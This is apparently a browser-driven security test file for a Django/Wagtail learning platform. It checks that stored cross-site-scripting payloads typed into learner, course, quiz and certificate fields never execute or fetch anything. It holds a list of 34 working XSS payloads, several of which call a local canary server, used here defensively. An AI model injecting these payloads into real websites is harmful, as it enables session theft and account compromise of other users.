"""Stored XSS: what one person types never runs or fetches in another person's browser.

A corpus of payloads goes into every field a person can type that someone else
sees: learners' names, departments, job titles and employee IDs (HR's people list,
completion report and certificate register, the public verification page), course,
module and lesson titles, lesson text and headings, quiz questions, answers and
feedback, scenario briefings and steps, certificate templates and the question bank
(what trainers see of each other's work). Every page is rendered in Chromium.

Each payload tries to call `window.__xss(n)` (a function the test exposes, so a call
is counted wherever it comes from, frames included) and to load something from a
canary HTTP server on another local port. `n` names the placement and the payload, so
a failure says which field let which payload through. Every placement carries a
visible marker `~n~`, and the test fails when a marker is missing: a payload that
never reached the page has not been tried.

Runtime is bounded by putting every payload of a placement on one page (34 people in
one people list, 34 lessons in one course outline, 34 questions in one attempt).
"""

import copy
import datetime
import http.server
import re
import threading

import pytest
from django.urls import reverse
from playwright.sync_api import expect

from certificates.models import Certificate, CertificateTemplate
from courses import services as course_services
from courses.models import CourseCataloguePage, CoursePage, LessonPage, ModulePage
from cxacademy.accounts.models import Department, LearnerProfile
from quizzes import services as quiz_services
from quizzes.models import Question, QuestionCategory, QuestionChoice, QuizPage, QuizQuestion
from simulations import services as simulation_services
from tests import factories
from tests.e2e.conftest import (  # noqa: F401 - fixtures shared with the browser suite
    _live_server_finishes_before_the_database_resets,
    launched_chromium,
)
from tests.e2e.test_foundation import login
from tests.simulations.conftest import STEPS, build_scenario

pytestmark = pytest.mark.e2e

# {n}: the placement and payload's number; {canary}: the outside server's address.
PAYLOADS = [
    "<script>__xss({n})</script>",
    "<ScRiPt>__xss({n})</sCrIpT>",
    "<script src={canary}/s{n}.js></script>",
    "<img src=x onerror=__xss({n})>",
    '<img src="{canary}/i{n}.png" onerror="__xss({n})">',
    "<svg onload=__xss({n})>",
    "<svg><script>__xss({n})</script></svg>",
    '"><svg onload=__xss({n})>',
    "'><img src=x onerror=__xss({n})>",
    '" autofocus onfocus="__xss({n})',
    "<details open ontoggle=__xss({n})>",
    "<body onload=__xss({n})>",
    "<input autofocus onfocus=__xss({n})>",
    "<video><source onerror=__xss({n})></video>",
    '<a href="javascript:__xss({n})">klik</a>',
    '<a href="JaVaScRiPt:__xss({n})">klik</a>',
    '<a href="&#106;avascript&#58;__xss({n})">klik</a>',
    '<a href="data:text/html,<script>__xss({n})</script>">klik</a>',
    '<iframe srcdoc="<script>parent.__xss({n})</script>"></iframe>',
    '<iframe src="javascript:parent.__xss({n})"></iframe>',
    '<object data="javascript:__xss({n})"></object>',
    '<form action="javascript:__xss({n})"><button>kirim</button></form>',
    "{{{{7*7}}}}={{{{ request.user.email }}}}${{7*7}}#{{7*7}}",
    '<div style="background:url({canary}/c{n}.png)">gaya</div>',
    '<div style="width:expression(__xss({n}))">gaya</div>',
    "<style>@import '{canary}/m{n}.css';</style>",
    "<link rel=stylesheet href={canary}/l{n}.css>",
    '<base href="{canary}/b{n}/">',
    '<meta http-equiv="refresh" content="0;url=javascript:__xss({n})">',
    "<math><mtext><table><mglyph><style><img src=x onerror=__xss({n})>",
    '<noscript><p title="</noscript><img src=x onerror=__xss({n})>">',
    "&lt;script&gt;__xss({n})&lt;/script&gt;",
    "\\u003cscript\\u003e__xss({n})\\u003c/script\\u003e",
    "</script><script>__xss({n})</script>';__xss({n});'",
]

# Placements: where a payload is typed. Numbers are stable so a failure names one.
NAME, DEPARTMENT, JOB_TITLE, EMPLOYEE_ID = 1, 2, 3, 4
NAME_ON_CERTIFICATE, COURSE_ON_CERTIFICATE = 5, 6
COURSE_TITLE, COURSE_SUMMARY, MODULE_TITLE, LESSON_TITLE = 7, 8, 9, 10
LESSON_TEXT, LESSON_HEADING = 11, 12
QUESTION_TEXT, ANSWER_TEXT, ANSWER_FEEDBACK, GENERAL_FEEDBACK, QUESTION_NAME = 13, 14, 15, 16, 17
SCENARIO_BRIEFING, STEP_NARRATIVE = 18, 19
# A template's texts are shown only inside certificate PDFs (WeasyPrint runs no
# scripts; its fetches are the PDF suite's); its name is what other trainers see.
TEMPLATE_NAME = 20

# A value the page may turn into a link or script URL: anything of these kinds is live.
LIVE_URL = re.compile(r"^\s*(javascript|vbscript|data\s*:\s*text/html)", re.IGNORECASE)


def number(placement: int, index: int) -> int:
    return placement * 100 + index


def marker(n: int) -> str:
    return f"~{n}~"


def typed(placement: int, index: int, canary: str, *, max_length: int | None = None) -> str:
    """What a person typed into a plain-text field: the marker, then payload `index`."""
    n = number(placement, index)
    value = marker(n) + PAYLOADS[index].format(n=n, canary=canary)
    return value[:max_length] if max_length else value


def typed_rich(placement: int, index: int, canary: str) -> str:
    """What reached a rich text field (an import, an old version, a hand edit)."""
    n = number(placement, index)
    return f"<p>{marker(n)}</p>" + PAYLOADS[index].format(n=n, canary=canary)


# After each payload in a field that holds them all: a payload left open (`<style>`,
# `<svg>`) would otherwise swallow the next ones, in the browser as in the sanitiser,
# and those would never be tried.
CLOSE_ALL = "</style></script></noscript></svg></math></table>"


def typed_rich_all(placement: int, canary: str) -> str:
    """Every payload in one rich text field, each as if typed on its own."""
    return "".join(
        typed_rich(placement, index, canary) + CLOSE_ALL for index in range(len(PAYLOADS))
    )


def max_length(model, field: str) -> int:
    return model._meta.get_field(field).max_length


class Canary(http.server.ThreadingHTTPServer):
    """The outside world: a local server that counts every request it gets."""

    def __init__(self):
        self.hits = []
        canary = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):  # noqa: N802 - http.server's name
                canary.hits.append(self.path)
                self.send_response(204)
                self.end_headers()

            do_POST = do_GET  # noqa: N815

            def log_message(self, *args):
                pass

        super().__init__(("127.0.0.1", 0), Handler)

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server_address[1]}"


@pytest.fixture(scope="module")
def browser(request):
    """Chromium for this module only: its running event loop must not reach the
    other tests of tests/security (see tests/e2e/conftest.py)."""
    with launched_chromium(request) as chromium:
        yield chromium


@pytest.fixture
def canary():
    server = Canary()
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield server
    server.shutdown()
    server.server_close()


class Watch:
    """Everything a payload could make the browser do, counted per browser context."""

    def __init__(self, live_url: str):
        self.live_url = live_url
        self.executed: list[tuple[str, int]] = []
        self.dialogs: list[tuple[str, str]] = []
        self.outside: list[tuple[str, str]] = []
        self.live_urls: list[tuple[str, str]] = []
        self.missing: list[tuple[str, int]] = []
        self.tried: set[int] = set()
        self.label = ""

    def attach(self, context) -> None:
        context.expose_function("__xss", lambda n=None: self.executed.append((self.label, n)))
        context.on("request", self._request)
        context.on("page", lambda tab: tab.on("dialog", self._dialog))
        for tab in context.pages:
            tab.on("dialog", self._dialog)

    def _request(self, request) -> None:
        url = request.url
        if url.startswith((self.live_url, "data:", "blob:", "about:")):
            return
        self.outside.append((self.label, url))

    def _dialog(self, dialog) -> None:
        self.dialogs.append((self.label, dialog.message))
        dialog.dismiss()

    def visit(self, tab, label: str, url: str | list[str], expected: list[int]) -> None:
        """Open `url` (or each page of a listing), let every payload do what it can,
        and check what arrived."""
        html = text = ""
        for each in [url] if isinstance(url, str) else url:
            page_html, page_text = self._open(tab, label, each)
            html, text = html + page_html, text + page_text
        for n in expected:
            if marker(n) in html:
                self.tried.add(n)
            else:
                self.missing.append((label, n))
        # Template injection: a marker followed by the evaluated sum means a template ran.
        for n in expected:
            if re.search(re.escape(marker(n)) + r"49=", text):
                self.executed.append((label, n))

    def _open(self, tab, label: str, url: str) -> tuple[str, str]:
        self.label = label
        response = tab.goto(url)
        assert response is not None and response.status == 200, f"{label}: {url} gave {response}"
        # Images fail, <details> toggle, autofocus fires, stylesheets load: wait for the
        # page to go quiet rather than for a fixed time.
        tab.wait_for_load_state("networkidle")
        for element, value in tab.evaluate(
            """() => [...document.querySelectorAll(
                    '[href], [src], [action], [formaction], [data], [srcdoc]'
                )].flatMap(el => ['href', 'src', 'action', 'formaction', 'data', 'srcdoc']
                    .filter(name => el.hasAttribute(name))
                    .map(name => [el.tagName + '@' + name, el.getAttribute(name)]))"""
        ):
            if LIVE_URL.match(value) or element.endswith("@srcdoc"):
                self.live_urls.append((label, f"{element}={value[:80]}"))
        return tab.content(), tab.inner_text("body")


def _people(canary_url: str, course: CoursePage, template: CertificateTemplate) -> None:
    """One learner per payload, each field carrying it, enrolled and certified."""
    today = datetime.date.today()
    for index in range(len(PAYLOADS)):
        department = Department.objects.create(
            name=typed(DEPARTMENT, index, canary_url, max_length=max_length(Department, "name"))
        )
        person = factories.UserFactory(
            full_name=typed(NAME, index, canary_url, max_length=200), role="Learner"
        )
        LearnerProfile.objects.create(
            user=person,
            department=department,
            job_title=typed(JOB_TITLE, index, canary_url, max_length=150),
            employee_id=typed(
                EMPLOYEE_ID, index, canary_url, max_length=max_length(LearnerProfile, "employee_id")
            ),
        )
        course_services.enrol(user=person, course=course)
        Certificate.objects.create(
            user=person,
            course_key=course.translation_key,
            template=template,
            learner_name=typed(NAME_ON_CERTIFICATE, index, canary_url, max_length=200),
            course_title=typed(COURSE_ON_CERTIFICATE, index, canary_url, max_length=255),
            completed_on=today,
        )


def _content(site, canary_url: str):
    """A catalogue of payload-titled courses; one course whose modules, lessons,
    lesson text, quiz and scenario carry every payload."""
    catalogue = CourseCataloguePage.objects.child_of(site).first() or site.add_child(
        instance=CourseCataloguePage(title="Katalog", slug="katalog")
    )
    for index in range(len(PAYLOADS)):
        catalogue.add_child(
            instance=CoursePage(
                title=typed(COURSE_TITLE, index, canary_url, max_length=255),
                slug=f"kursus-{index}",
                summary=typed(COURSE_SUMMARY, index, canary_url),
            )
        )
    course = catalogue.add_child(
        instance=CoursePage(title="Kursus utama", slug="kursus-utama", summary="Isi.")
    )
    first_lesson = None
    for index in range(len(PAYLOADS)):
        module = course.add_child(
            instance=ModulePage(
                title=typed(MODULE_TITLE, index, canary_url, max_length=255), slug=f"modul-{index}"
            )
        )
        body = [("rich_text", "<p>Pelajaran.</p>")]
        if index == 0:
            body = []
            for each in range(len(PAYLOADS)):
                body.append(
                    (
                        "heading",
                        {
                            "text": typed(LESSON_HEADING, each, canary_url, max_length=120),
                            "level": "h2",
                        },
                    )
                )
                body.append(("rich_text", typed_rich(LESSON_TEXT, each, canary_url)))
        lesson = module.add_child(
            instance=LessonPage(
                title=typed(LESSON_TITLE, index, canary_url, max_length=255),
                slug=f"pelajaran-{index}",
                body=body,
            )
        )
        first_lesson = first_lesson or lesson

    quiz_module = course.add_child(instance=ModulePage(title="Modul kuis", slug="modul-kuis"))
    quiz = quiz_module.add_child(
        instance=QuizPage(title="Kuis", slug="kuis", review=QuizPage.Review.FULL)
    )
    category = QuestionCategory.for_path(("XSS",))
    for index in range(len(PAYLOADS)):
        question = Question.objects.create(
            category=category,
            kind="single",
            name=typed(QUESTION_NAME, index, canary_url, max_length=255),
            text=typed_rich(QUESTION_TEXT, index, canary_url),
            general_feedback=typed_rich(GENERAL_FEEDBACK, index, canary_url),
        )
        QuestionChoice.objects.create(
            question=question,
            text=typed(ANSWER_TEXT, index, canary_url),
            fraction=1,
            feedback=typed(ANSWER_FEEDBACK, index, canary_url),
        )
        QuestionChoice.objects.create(question=question, text="Bukan", fraction=0)
        QuizQuestion.objects.create(quiz=quiz, question=question, sort_order=index)

    steps = copy.deepcopy(STEPS)
    steps[0]["value"]["narrative"] = typed_rich_all(STEP_NARRATIVE, canary_url)
    scenario = build_scenario(site, course=course, steps=steps)
    type(scenario).objects.filter(pk=scenario.pk).update(
        briefing=typed_rich_all(SCENARIO_BRIEFING, canary_url)
    )
    scenario.refresh_from_db()
    return (
        CoursePage.objects.get(pk=course.pk),
        LessonPage.objects.get(pk=first_lesson.pk),
        QuizPage.objects.get(pk=quiz.pk),
        scenario,
    )


def _templates(canary_url: str) -> CertificateTemplate:
    for index in range(len(PAYLOADS)):
        CertificateTemplate.objects.create(
            name=typed(TEMPLATE_NAME, index, canary_url, max_length=100),
            body="Diberikan kepada {name} untuk {course}.",
        )
    return CertificateTemplate.objects.first()


def listing_pages(url: str) -> list[str]:
    """Both pages of a Wagtail listing (20 a page) of the corpus."""
    return [url, url + "?p=2"]


def _all(placement: int) -> list[int]:
    return [number(placement, index) for index in range(len(PAYLOADS))]


def test_no_typed_payload_runs_or_fetches_in_anyones_browser(
    browser,
    live_server,
    django_db_serialized_rollback,
    site,
    canary,
    monkeypatch,
    hr_user,
    trainer,
    learner,
):
    # The public verification page is rate-limited; this test looks up 34 codes at once.
    monkeypatch.setattr("certificates.views.VERIFY_RATE", "1000/m/ip")
    template = _templates(canary.url)
    course, lesson, quiz, scenario = _content(site, canary.url)
    _people(canary.url, course, template)
    course_services.enrol(user=learner, course=course)
    attempt = quiz_services.attempt_start(user=learner, quiz=quiz, course=course)
    run = simulation_services.run_start(user=learner, scenario=scenario, course=course)

    watch = Watch(live_server.url)
    contexts = {}
    for role, user in (("learner", learner), ("hr", hr_user), ("trainer", trainer)):
        context = browser.new_context(locale="id-ID", base_url=live_server.url)
        watch.attach(context)
        tab = context.new_page()
        login(tab, live_server, user)
        contexts[role] = tab
    visitor = browser.new_context(locale="id-ID", base_url=live_server.url)
    watch.attach(visitor)
    anonymous = visitor.new_page()

    learner_tab, hr_tab, trainer_tab = contexts["learner"], contexts["hr"], contexts["trainer"]
    url = live_server.url
    catalogue = CourseCataloguePage.objects.get()
    watch.visit(
        learner_tab, "catalogue", url + catalogue.url, _all(COURSE_TITLE) + _all(COURSE_SUMMARY)
    )
    watch.visit(
        learner_tab, "course outline", url + course.url, _all(MODULE_TITLE) + _all(LESSON_TITLE)
    )
    watch.visit(learner_tab, "lesson", url + lesson.url, _all(LESSON_TEXT) + _all(LESSON_HEADING))
    watch.visit(
        learner_tab,
        "quiz attempt",
        url + reverse("quizzes:attempt", args=[attempt.pk]),
        _all(QUESTION_TEXT) + _all(ANSWER_TEXT),
    )
    # The learner picks the answers whose feedback carries the payloads.
    questions = {str(question.translation_key): question for question in Question.objects.all()}
    answers = {
        item["q"]: str(questions[item["q"]].choices.get(fraction=1).key) for item in attempt.layout
    }
    attempt.refresh_from_db()
    quiz_services.attempt_submit(attempt=attempt, sequence=attempt.sequence, answers=answers)
    watch.visit(
        learner_tab,
        "quiz review",
        url + reverse("quizzes:review", args=[attempt.pk]),
        _all(GENERAL_FEEDBACK) + _all(ANSWER_FEEDBACK),
    )
    watch.visit(
        learner_tab,
        "scenario",
        url + reverse("simulations:run", args=[run.pk]),
        _all(STEP_NARRATIVE),
    )
    watch.visit(learner_tab, "scenario page", url + scenario.url, _all(SCENARIO_BRIEFING))

    watch.visit(
        hr_tab,
        "people list",
        url + reverse("people_index"),
        _all(NAME) + _all(DEPARTMENT) + _all(JOB_TITLE) + _all(EMPLOYEE_ID),
    )
    watch.visit(hr_tab, "completion report", url + reverse("completion_report"), _all(NAME))
    watch.visit(
        hr_tab,
        "certificate register",
        url + reverse("certificates_register"),
        _all(NAME_ON_CERTIFICATE) + _all(COURSE_ON_CERTIFICATE),
    )
    watch.visit(
        trainer_tab,
        "question bank",
        listing_pages(url + reverse(Question.snippet_viewset.get_url_name("list"))),
        _all(QUESTION_NAME),
    )
    watch.visit(
        trainer_tab,
        "certificate templates",
        listing_pages(url + reverse(CertificateTemplate.snippet_viewset.get_url_name("list"))),
        _all(TEMPLATE_NAME),
    )
    for certificate in Certificate.objects.order_by("pk"):
        index = int(re.match(r"~(\d+)~", certificate.learner_name).group(1)) % 100
        watch.visit(
            anonymous,
            "verification",
            url + reverse("certificates:verify_code", args=[certificate.code]),
            [number(NAME_ON_CERTIFICATE, index), number(COURSE_ON_CERTIFICATE, index)],
        )
    expect(anonymous.locator("body")).to_be_visible()

    placements = {n // 100 for n in watch.tried}
    print(
        f"\nXSS corpus: {len(PAYLOADS)} payloads x {len(placements)} placements = "
        f"{len(watch.tried)} tried, {len(watch.tried) - len({n for _, n in watch.executed})} "
        f"held; scripts executed: {len(watch.executed)}, dialogs: {len(watch.dialogs)}, "
        f"outside requests: browser {len(watch.outside)}, canary {len(canary.hits)}; "
        f"live javascript:/data: URLs or srcdoc: {len(watch.live_urls)}"
    )
    assert watch.missing == [], f"never reached the page, so not tried: {watch.missing}"
    assert watch.executed == []
    assert watch.dialogs == []
    assert watch.outside == [] and canary.hits == []
    assert watch.live_urls == []


def test_the_watch_sees_payloads_that_run_and_fetch(browser, canary):
    """The same corpus on a site that does not escape it: the counts above are not zero
    because nothing was watched."""
    unsafe = "".join(
        typed_rich(LESSON_TEXT, index, canary.url) + CLOSE_ALL for index in range(len(PAYLOADS))
    )
    page_bytes = f"<html><body>{unsafe}</body></html>".encode()

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):  # noqa: N802 - http.server's name
            self.send_response(200)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.end_headers()
            self.wfile.write(page_bytes)

        def log_message(self, *args):
            pass

    # A real server, not a routed response: Chromium refuses a routed page's requests
    # to local addresses, which would hide the canary's hits.
    site = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=site.serve_forever, daemon=True).start()
    site_url = f"http://127.0.0.1:{site.server_address[1]}"
    context = browser.new_context()
    try:
        watch = Watch(site_url)
        watch.attach(context)
        tab = context.new_page()

        watch.visit(tab, "unescaped", site_url + "/", _all(LESSON_TEXT))
    finally:
        context.close()
        site.shutdown()
        site.server_close()

    ran = {n % 100 for _, n in watch.executed}
    print(
        f"\nUnescaped control: {len(ran)} of {len(PAYLOADS)} payloads ran, "
        f"{len(canary.hits)} canary hits, {len(watch.live_urls)} live URLs"
    )
    assert len(ran) >= 8, f"only payloads {sorted(ran)} ran"
    assert watch.outside, "the browser asked for nothing outside"
    assert canary.hits, f"no payload reached the canary (the browser asked for {watch.outside})"
    assert watch.live_urls
